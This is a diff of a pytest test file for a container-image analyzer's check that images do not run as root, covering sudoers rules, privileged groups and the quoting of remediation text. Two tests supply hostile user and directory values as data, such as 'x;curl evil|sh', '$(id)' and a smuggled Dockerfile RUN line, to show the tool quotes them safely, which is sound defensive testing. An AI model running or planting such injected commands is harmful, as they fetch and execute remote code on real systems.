@@ -1,14 +1,18 @@
 """Who starts as root fails 4.1, whatever name root has."""
 
+import shlex
 from collections.abc import Mapping
+from dataclasses import replace
 from typing import Any
 
 import pytest
 
 from ocianalyze.controls.cis_docker.c4_01_user import CONTROL
 from ocianalyze.detectors.captured import OBSERVER
+from ocianalyze.limits import DEFAULT
+from ocianalyze.model.document import read_config
 from ocianalyze.model.finding import Status
-from tests.images import File, Layer, image, symlink
+from tests.images import File, Layer, directory, image, symlink
 
 PASSWD = b"root:x:0:0::/root:/bin/sh\ntoor:x:0:0::/:\nbad:x::5::/:\napp:x:1000:1000::/:\n"
 GROUP = b"root:x:0:\napp:x:1000:\n"
@@ -84,9 +88,71 @@ def test_named_user_is_not_judged_while_a_layer_is_unread(user: str) -> None:
     assert (verdict.status, verdict.reason) == (Status.NOT_EVALUATED, "layers-unread")
 
 
-@pytest.mark.parametrize(("user", "status"), [("", "fail"), ("root", "fail"), ("1000", "pass")])
-def test_certain_user_is_judged_while_a_layer_is_unread(user: str, status: str) -> None:
-    assert CONTROL.evaluate(image(ACCOUNTS, None, config={"User": user})).status == status
+@pytest.mark.parametrize("user", ["", "root", "0"])
+def test_root_fails_while_a_layer_is_unread(user: str) -> None:
+    assert CONTROL.evaluate(image(ACCOUNTS, None, config={"User": user})).status is Status.FAIL
+
+
+@pytest.mark.parametrize("user", ["1000", "1000:1000", "65532"])
+def test_number_does_not_pass_while_a_layer_is_unread(user: str) -> None:
+    """Its groups and sudo rules may lie there."""
+    verdict = CONTROL.evaluate(image(ACCOUNTS, None, config={"User": user}))
+    assert (verdict.status, verdict.reason) == (Status.NOT_EVALUATED, "layers-unread")
+
+
+def test_power_that_was_found_counts_while_a_layer_is_unread() -> None:
+    layer: Layer = {"etc/passwd": PASSWD, "etc/group": GROUP + b"wheel:x:27:app\n"}
+    verdict = CONTROL.evaluate(image(layer, None, config={"User": "1000"}))
+    assert (verdict.status, verdict.reason) == (Status.NEEDS_REVIEW, "privileged-group")
+
+
+@pytest.mark.parametrize(
+    "path", ["etc/passwd", "etc/group", "etc/sudoers", "etc/sudoers.d/app", "etc/sudoers.d/link"]
+)
+def test_file_that_was_not_kept_takes_a_pass_back(path: str) -> None:
+    layer: Layer = {**ACCOUNTS, "usr/bin/sudo": PROGRAM, path: b"#" * (1 << 20) + b"\n"}
+    if path.endswith("link"):
+        layer = {**layer, path: symlink("/opt/rules"), "opt/rules": b"app ALL=NOPASSWD: ALL\n"}
+    assert CONTROL.evaluate(image({**layer, path: b""}, config={"User": "1000"})).status == "pass"
+    verdict = CONTROL.evaluate(image(layer, config={"User": "1000"}))
+    assert (verdict.status, verdict.reason) == (Status.NOT_EVALUATED, "accounts-unread")
+    assert verdict.evidence[-1].path == path
+
+
+def test_more_rule_files_than_are_read_take_a_pass_back() -> None:
+    layer: Layer = {f"etc/sudoers.d/{n:04}": b"# none\n" for n in range(300)}
+    view = image({**ACCOUNTS, **layer, "usr/bin/sudo": PROGRAM}, config={"User": "1000"})
+    assert CONTROL.evaluate(view).reason == "accounts-unread"
+
+
+def test_directory_of_rules_is_passed_over_as_sudo_does() -> None:
+    layer: Layer = {**ACCOUNTS, "usr/bin/sudo": PROGRAM, "etc/sudoers.d/old": directory()}
+    assert CONTROL.evaluate(image(layer, config={"User": "1000"})).status is Status.PASS
+
+
+@pytest.mark.parametrize(
+    "document", [b'{"config":{"User":1000}}', b'{"config":{"user":[{}]}}', b'{"config":[1]}']
+)
+def test_user_of_the_wrong_type_is_not_judged(document: bytes) -> None:
+    config, _ = read_config(document, DEFAULT)
+    verdict = CONTROL.evaluate(replace(image(ACCOUNTS), config=config))
+    assert (verdict.status, verdict.reason) == (Status.NOT_EVALUATED, "config-field-unread")
+    assert verdict.evidence[0].pointer in ("/config/User", "/config")
+
+
+@pytest.mark.parametrize("user", ["x;curl evil|sh", "x\nRUN id", "$(id)", "x" * 99, "\u202ex"])
+def test_hostile_user_is_quoted_or_left_out(user: str) -> None:
+    verdict = CONTROL.evaluate(image(ACCOUNTS, config={"User": user}))
+    named = verdict.remediation.partition("before USER ")[2].partition(": RUN")[0]
+    assert shlex.split(named) in ([user], ["NAME"])
+    assert verdict.remediation.isprintable()
+
+
+@pytest.mark.parametrize("where", ["/a;curl evil|sh", "/a\nRUN id", "/" + "x" * 999])
+def test_hostile_directory_is_quoted_or_left_out(where: str) -> None:
+    verdict = CONTROL.evaluate(image({}, config={"WorkingDir": where}))
+    named = verdict.remediation.partition("written below ")[2]
+    assert shlex.split(named) in ([where], ["/app"])
 
 
 def test_account_file_that_was_not_kept_is_no_missing_user() -> None:
@@ -191,8 +257,22 @@ def test_powerful_group_needs_review(group: str) -> None:
 )
 @pytest.mark.parametrize("path", ["etc/sudoers", "etc/sudoers.d/app"])
 def test_sudo_rule_without_password_needs_review(rule: bytes, status: Status, path: str) -> None:
-    layer: Layer = {**ACCOUNTS, path: rule + b"\n"}
+    layer: Layer = {**ACCOUNTS, path: rule + b"\n", "usr/bin/sudo": PROGRAM}
     assert CONTROL.evaluate(image(layer, config={"User": "app"})).status is status
+
+
+@pytest.mark.parametrize(
+    ("path", "env", "status"),
+    [
+        ("usr/local/bin/sudo", [], Status.NEEDS_REVIEW),
+        ("bin/sudo", ["PATH=/nowhere"], Status.NEEDS_REVIEW),
+        ("opt/bin/sudo", ["PATH=/opt/bin"], Status.NEEDS_REVIEW),
+        ("etc/pam.d/sudo", [], Status.PASS),
+    ],
+)
+def test_sudo_rule_counts_only_where_sudo_is(path: str, env: list[str], status: Status) -> None:
+    layer: Layer = {**ACCOUNTS, "etc/sudoers": b"app ALL=NOPASSWD: ALL\n", path: PROGRAM}
+    assert CONTROL.evaluate(image(layer, config={"User": "app", "Env": env})).status is status
 
 
 def test_unused_account_is_offered() -> None:
